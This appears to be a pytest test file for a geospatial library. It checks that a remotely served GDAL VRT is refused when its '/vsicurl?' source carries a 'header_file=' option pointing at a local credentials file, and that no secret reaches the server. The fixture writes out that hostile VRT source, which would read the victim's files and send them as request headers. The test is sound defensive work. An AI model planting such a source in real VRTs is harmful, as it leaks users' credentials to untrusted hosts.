"""A remote VRT's source names GDAL's /vsicurl? options that read files on this machine (io/remote_sources, R's).

eff7fad/2948517 refuse a remote VRT naming a local file as a source. GDAL's ``/vsicurl?`` form takes
options too: ``header_file=<path>`` makes GDAL read a file on this machine and send each of its
``Name: value`` lines as a request header, to whichever host the VRT's author names. A VRT served by
someone else is untrusted input (DESIGN: credentials go only to the origin they were given for): such a
source must be refused, and nothing read from this machine may reach the server.
"""

from __future__ import annotations

import json
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
import rasterio
from affine import Affine

import terrapipe as tp
from tests.hostile_wave7.serving import files_server

SECRET = "topsecret-h7-header"


def _vrt(source: str) -> str:
    return (
        '<VRTDataset rasterXSize="16" rasterYSize="16"><SRS>EPSG:32631</SRS>'
        "<GeoTransform>500000,10,0,4000000,0,-10</GeoTransform>"
        '<VRTRasterBand dataType="UInt16" band="1"><SimpleSource>'
        f'<SourceFilename relativeToVRT="0">{source}</SourceFilename><SourceBand>1</SourceBand>'
        '<SrcRect xOff="0" yOff="0" xSize="16" ySize="16"/><DstRect xOff="0" yOff="0" xSize="16" ySize="16"/>'
        "</SimpleSource></VRTRasterBand></VRTDataset>"
    )


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    root = tmp_path / "www"
    root.mkdir()
    profile = {
        "driver": "GTiff",
        "width": 16,
        "height": 16,
        "count": 1,
        "dtype": "uint16",
        "crs": "EPSG:32631",
    }
    with rasterio.open(root / "src.tif", "w", transform=Affine(10, 0, 5e5, 0, -10, 4e6), **profile) as dst:
        dst.write(np.full((1, 16, 16), 7, "uint16"))
    secrets = tmp_path / "home" / ".git-credentials"  # any file of 'Name: value' lines
    secrets.parent.mkdir()
    secrets.write_text(f"X-Secret: {SECRET}\n")
    with files_server(root) as url:
        for name, source in {
            "first.vrt": f"/vsicurl?header_file={secrets}&amp;url={url}/src.tif",
            "last.vrt": f"/vsicurl?url={url}/src.tif&amp;header_file={secrets}",
        }.items():
            (root / name).write_text(_vrt(source))
        yield url, secrets


@pytest.mark.parametrize("name", ["first.vrt", "last.vrt"])
def test_a_remote_vrt_source_with_a_header_file_is_refused(served: tuple[str, Path], name: str) -> None:
    url, _secrets = served
    with pytest.raises(tp.ReadError):
        np.asarray(tp.open_raster(f"{url}/{name}", storage=tp.Storage(timeout=5, retries=0)).values)
    with urllib.request.urlopen(url + "/_log", timeout=5) as answer:
        log = json.loads(answer.read())
    assert not any(SECRET in json.dumps(entry.get("headers", {})) for entry in log)


def test_the_same_source_without_options_reads(served: tuple[str, Path]) -> None:
    """A remote VRT naming /vsicurl/<url> of the same server: its pixels (holds)."""
    url, _secrets = served
    root = _secrets.parent.parent / "www"
    (root / "plain.vrt").write_text(_vrt(f"/vsicurl/{url}/src.tif"))
    values = np.asarray(tp.open_raster(f"{url}/plain.vrt", storage=tp.Storage(timeout=5, retries=0)).values)
    assert np.unique(values).tolist() == [7]
